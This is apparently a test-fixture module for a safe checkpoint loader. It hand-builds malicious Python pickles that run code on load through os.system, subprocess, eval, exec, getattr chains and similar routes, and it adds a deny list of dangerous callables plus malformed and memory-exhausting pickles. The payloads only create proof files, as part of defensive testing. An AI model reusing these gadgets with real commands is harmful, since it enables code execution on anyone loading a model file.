"""Malicious pickles, opcode by opcode.

Goes in: a folder for proofs. Goes out: name → pickle. Those of ``armed`` hold a payload that makes
a file in that folder, so that a test can show that they work where nothing guards.
"""

from __future__ import annotations

import struct
from pathlib import Path


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    data = value.to_bytes(8, "little", signed=True)
    return b"\x8a\x08" + data


def many(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def name(full: str) -> bytes:
    """GLOBAL; the name is all after the last dot, or after a colon."""
    module, _, rest = full.partition(":") if ":" in full else full.rpartition(".")
    return f"c{module}\n{rest}\n".encode()


def call(full: str, *arguments: bytes) -> bytes:
    return name(full) + many(*arguments) + b"R"


def body(value: bytes, protocol: int = 2) -> bytes:
    """A checkpoint with ``value`` among its settings."""
    start = b"\x80" + bytes([protocol]) if protocol > 1 else b""
    return start + b"}(" + text("model") + b"}" + text("args") + value + b"u."


def storage(key: str = "0", numel: int = 4, kind: str = "torch.FloatStorage") -> bytes:
    return many(text("storage"), name(kind), text(key), text("cpu"), number(numel)) + b"Q"


def tensor(
    sizes: tuple[int, ...] = (4,),
    strides: tuple[int, ...] = (1,),
    block: bytes | None = None,
    offset: int = 0,
    hooks: bytes | None = None,
) -> bytes:
    return call(
        "torch._utils._rebuild_tensor_v2",
        block or storage(),
        number(offset),
        many(*map(number, sizes)),
        many(*map(number, strides)),
        b"\x89",
        hooks or call("collections.OrderedDict"),
    )


def doubling(levels: int, seed: bytes = b"]") -> bytes:
    """A list that holds a list twice, which holds a list twice, …"""
    made = seed + b"q\0"
    for i in range(1, levels):
        made = b"](" + made + b"h" + bytes([i - 1]) + b"eq" + bytes([i])
    return made


# -- the tricks ------------------------------------------------------------------------------------


def armed(proofs: Path) -> dict[str, bytes]:
    """Bare pickles that each make the file ``proofs/NAME`` when Python's own pickle reads them."""

    def shell(key: str) -> bytes:
        return text(f"touch {str(proofs / key)!r}")

    def code(key: str) -> bytes:
        return text(f"open({str(proofs / key)!r}, 'w').close()")

    def file(key: str) -> bytes:
        return text(str(proofs / key))

    def words(key: str) -> bytes:
        return b"](" + text("touch") + file(key) + b"e"

    nested = b"\x80\x03" + call("os.system", shell("pickle.loads")) + b"."
    imported = call("builtins.__import__", text("os"))
    evil = {
        "os.system": call("os.system", shell("os.system")),
        "posix.system": call("posix.system", shell("posix.system")),
        "subprocess.call": call("subprocess.call", words("subprocess.call")),
        "subprocess.getoutput": call("subprocess.getoutput", shell("subprocess.getoutput")),
        "builtins.eval": call("builtins.eval", code("builtins.eval")),
        "builtins.exec": call("builtins.exec", code("builtins.exec")),
        "builtins.open": call("builtins.open", file("builtins.open"), text("w")),
        "os.mkdir": call("os.mkdir", file("os.mkdir")),
        "timeit.timeit": call(
            "timeit.timeit",
            code("timeit.timeit"),
            text("pass"),
            name("time.perf_counter"),
            b"K\x01",
        ),
        "cProfile.runctx": call("cProfile.runctx", code("cProfile.runctx"), b"}", b"}"),
        "doctest.debug_script": call("doctest.debug_script", code("doctest.debug_script"), b"\x88"),
        "logging.FileHandler": call("logging.FileHandler", file("logging.FileHandler")),
        "chain of getattr": call("builtins.getattr", imported, text("system"))
        + many(shell("chain of getattr"))
        + b"R",
        "functools.partial": call(
            "functools.partial", name("os.system"), shell("functools.partial")
        )
        + b")R",
        "operator.methodcaller": call(
            "operator.methodcaller", text("system"), shell("operator.methodcaller")
        )
        + many(imported)
        + b"R",
        "map and list": call(
            "builtins.list",
            call("builtins.map", name("os.system"), b"](" + shell("map and list") + b"e"),
        ),
        "pickle.loads": call(
            "pickle.loads", call("_codecs.encode", text(nested.decode("latin-1")), text("latin1"))
        ),
        "name through the memo": text("system")
        + b"q\x010"
        + text("os")
        + b"q\x020h\x02h\x01\x93"
        + many(shell("name through the memo"))
        + b"R",
        "INST": b"(" + shell("INST") + b"ios\nsystem\n",
        "OBJ": b"(" + name("subprocess.Popen") + words("OBJ") + b"o",
        "dotted name": call("os:path.os.system", shell("dotted name")),
        "aliased module": call("subprocess:os.system", shell("aliased module")),
    }
    made = {key: body(value, 4) for key, value in evil.items()}
    made["protocol 2"] = body(call("os.system", shell("protocol 2")), 2)
    made["python 2 name"] = body(call("__builtin__.eval", code("python 2 name")), 2)
    proof = str(proofs / "protocol 0").encode()
    made["protocol 0"] = b"(dp0\nVargs\ncos\nsystem\n(Vtouch '" + proof + b"'\ntRs."
    made["protocol 1"] = body(call("os.system", shell("protocol 1")), 1)
    made["protocol 5"] = (
        b"\x80\x05\x95" + bytes(8) + body(call("os.system", shell("protocol 5")), 1)
    )
    return made


CALLS = (  # functions and classes that no checkpoint has to name; arguments hardly matter
    *("nt.system", "os.execv", "os.posix_spawn", "pty.spawn", "runpy.run_path", "ctypes.CDLL"),
    *("importlib.import_module", "webbrowser.open", "socket.create_connection", "pip.main"),
    *("urllib.request.urlopen", "http.client.HTTPSConnection", "smtplib.SMTP", "marshal.loads"),
    *("types.FunctionType", "types.CodeType", "operator.attrgetter", "pydoc.locate", "bdb.Bdb"),
    *("code.InteractiveInterpreter", "asyncio.create_subprocess_shell", "multiprocessing.Process"),
    *("_posixsubprocess.fork_exec", "uuid._get_command_stdout", "shutil.rmtree"),
    "copyreg.add_extension",
    *("copyreg._reconstructor", "sys.modules", "builtins.compile", "builtins.__import__"),
    *("builtins.getattr", "builtins.bytearray", "builtins.set", "builtins.complex"),
    *("torch.load", "torch.hub.load", "torch.jit.load", "torch.package.PackageImporter"),
    *("torch.serialization:os.system", "torch._utils.importlib", "torch.utils.collect_env.run"),
    *("torch._inductor.codecache.compile_file", "torch.utils.cpp_extension.load_inline"),
    *("torch.storage._load_from_bytes", "torch._utils._rebuild_wrapper_subclass"),
    *("torch._utils._rebuild_sparse_tensor", "torch._utils._rebuild_qtensor"),
    *("torch._utils._rebuild_meta_tensor_no_storage", "torch._tensor._rebuild_from_type_v2"),
    *("torch._utils._rebuild_device_tensor_from_numpy", "torch._utils._rebuild_tensor_v3"),
    *("torch._utils._rebuild_parameter_with_state", "torch.nn.parameter.Parameter"),
    *("torch.storage.UntypedStorage", "torch.Tensor", "torch.FloatTensor", "torch.device"),
    *("collections.Counter", "numpy.load", "numpy.testing._private.utils.runstring"),
    *("numpy.core.multiarray._reconstruct", "numpy.core.multiarray.fromfile", "numpy.ndarray"),
    "numpy.f2py.crackfortran.getlincoef",
    *("fairseq.utils.import_user_module", "fairseq.tasks.os.system", "fairseq:tasks.os.system"),
    *("omegaconf:OmegaConf.register_new_resolver", "omegaconf.OmegaConf.load", "fairseqx.Task"),
    *("argparse.FileType", "argparse:_sys.exit", "typing.get_type_hints", "typing.NamedTuple"),
)  # fmt: skip


def by_opcode() -> dict[str, bytes]:
    """Pickles whose names are all known; what they do with them is not what torch writes."""
    space = name("argparse.Namespace") + b")\x81"
    ordered = call("collections.OrderedDict")
    entry = b"(" + text("a") + b"K\x01"
    encode = "_codecs.encode"
    hooks = ordered + text("a") + b"K\x01s"
    values = {
        "STACK_GLOBAL of a known name": text("argparse") + text("Namespace") + b"\x93",
        "SHORT_BINUNICODE": b"\x8c\x01a",
        "BINBYTES": b"B\x01\0\0\0a",
        "SHORT_BINSTRING": b"U\x01a",
        "EMPTY_SET": b"\x8f",
        "MEMOIZE": b"K\x01\x94",
        "FRAME": b"\x95" + bytes(8) + b"K\x01",
        "NEWOBJ_EX of a known name": name("argparse.Namespace") + b")}\x92",
        "OBJ of a known name": b"(" + name("argparse.Namespace") + b"o",
        "INST of a known name": b"(iargparse\nNamespace\n",
        "EXT1": b"\x82\x01",
        "EXT2": b"\x83\x01\x01",
        "EXT4": b"\x84\x01\x01\x01\x01",
        "PERSID": b"Pstorage\n",
        "POP": b"K\x01K\x020",
        "DUP": b"K\x01K\x022s",
        "LONG4": b"\x8b\x01\0\0\0\x01",
        "huge LONG1": b"\x8a\xff" + b"\x01" * 255,
        "huge decimal": b"L" + b"9" * 10_000 + b"L\n",
        "broken escape": b"S'\\z'\n",
        "NEXT_BUFFER": b"\x97",
        "text that is not Unicode": b"X\x03\0\0\0\xed\xa0\x80",
        "second protocol": b"\x80\x02K\x01",
        "REDUCE of a string": text("os.system") + b")R",
        "REDUCE of an instance": space + b")R",
        "REDUCE without a tuple": name("argparse.Namespace") + b"]R",
        "REDUCE of a type": call("builtins.list"),
        "REDUCE of a storage": call("torch.FloatStorage", number(1)),
        "REDUCE of a dtype": call("torch.float32"),
        "NEWOBJ of a function": name(encode) + many(text("a"), text("latin1")) + b"\x81",
        "NEWOBJ of defaultdict": name("collections.defaultdict") + b")\x81",
        "NEWOBJ of a type": name("typing.Any") + b")\x81",
        "BUILD of a tensor": tensor() + many(b"K\x01") + b"b",
        "BUILD of a dict": b"}}b",
        "BUILD of a class": name("argparse.Namespace") + b"}b",
        "BUILD of methods": ordered + b"}" + text("items") + b"K\x01sb",
        "BUILD of __class__": ordered + b"}" + text("__class__") + name("typing.Any") + b"sb",
        "BUILD with slots": ordered + many(b"}", b"}") + b"b",
        "SETITEM of an instance": space + text("a") + b"K\x01s",
        "SETITEMS of a list": b"]" + entry + b"u",
        "SETITEM of a list": b"]K\1aK\0K\2s",
        "APPEND to a dict": b"}K\x01a",
        "APPENDS to an instance": space + b"(K\x01K\x01e",
        "tuple as a key": b"}(" + b")K\x01" + b"u",
        "class as a key": b"}(" + name("typing.Any") + b"K\x01u",
        "encode imports a module": call(encode, text("a"), text("idna")),
        "encode of bytes": call(encode, call(encode, text("a"), text("latin1")), text("latin1")),
        "encode of a long text": call(encode, text("a" * 100_000), text("latin1")),
        "OrderedDict of pairs": call("collections.OrderedDict", b"]"),
        "Size of text": call("torch.Size", many(text("a"))),
        "Size of many axes": call("torch.Size", many(*[number(2)] * 64)),
        "function as a value": name("torch._utils._rebuild_tensor_v2"),
        "storage as a value": storage(),
        "persistent id of text": text("storage") + b"Q",
        "persistent id of a module": many(text("module"), *[text("")] * 4) + b"Q",
        "persistent id of another kind": storage(kind="argparse.Namespace"),
        "persistent id that is a number": b"K\x01Q",
        "storage of negative size": tensor(block=storage(numel=-4)),
        "storage of two sizes": b"](" + tensor() + tensor((1,), block=storage(numel=1)) + b"e",
        "storage that is not there": tensor(block=storage(key="7")),
        "storage by the name of the pickle": tensor(block=storage(key="../data.pkl")),
        "storage larger than its record": tensor((10**9,), block=storage(numel=10**9)),
        "stride 0": tensor((10**12,), (0,)),
        "overlapping strides": tensor((4, 4), (0, 1)),
        "beyond the storage": tensor((4,), (2,)),
        "offset beyond the storage": tensor(offset=1),
        "negative offset": tensor(offset=-1),
        "negative size": tensor((-4,)),
        "negative stride": tensor(strides=(-1,)),
        "strides of another rank": tensor((2, 2), (1,)),
        "many axes": tensor((1,) * 64, (1,) * 64),
        "tensor of no storage": tensor(block=space),
        "tensor with hooks": tensor(hooks=hooks),
        "hooks of another class": tensor(hooks=space),
        "parameter of no tensor": call("torch._utils._rebuild_parameter", b"}", b"\x89", ordered),
        "doubling lists": doubling(40),
        "doubling text": doubling(18, text("a" * 1000)),
        "list that holds itself": b"]q\0h\0a",
        "dict that holds itself": b"}q\0" + text("a") + b"h\0s",
        "object that holds itself": space + b"q\0}" + text("_content") + b"h\0sb",
        "deep nesting": b"]" * 100_000 + b"a" * 99_999,
        "many tuples": b")" + b"\x85" * 100_000,
        "two keys alike": b"}(K\x01K\x01" + text("1") + b"K\x01u",
        "too many operations": b"](" + b"N" * 1_000_001 + b"e",
        "too many bytes": text("a" * (16 * 2**20 + 1)),
        "text longer than the file": b"X\xff\xff\xff\x7fa",
        "unknown opcode": b"\xff",
        "empty stack": b"R",
        "empty memo": b"h\x07",
        "mark left open": b"K\x01(",
        "values left over": b"K\x01K\x02",
        "odd number of items": b"}(K\x01u",
    }  # fmt: skip
    made = {key: body(value) for key, value in values.items()}
    made["no protocol"] = body(b"N", protocol=1)
    made["no dict"] = b"\x80\x02]."
    made["a tensor alone"] = b"\x80\x02" + tensor() + b"."
    made["value below"] = b"\x80\x02K\x01}."
    made["second pickle"] = body(b"N") + body(call("os.system", text("true")))
    made["bytes after the end"] = body(b"N") + b"\0"
    made["without an end"] = body(b"N")[:-1]
    return made
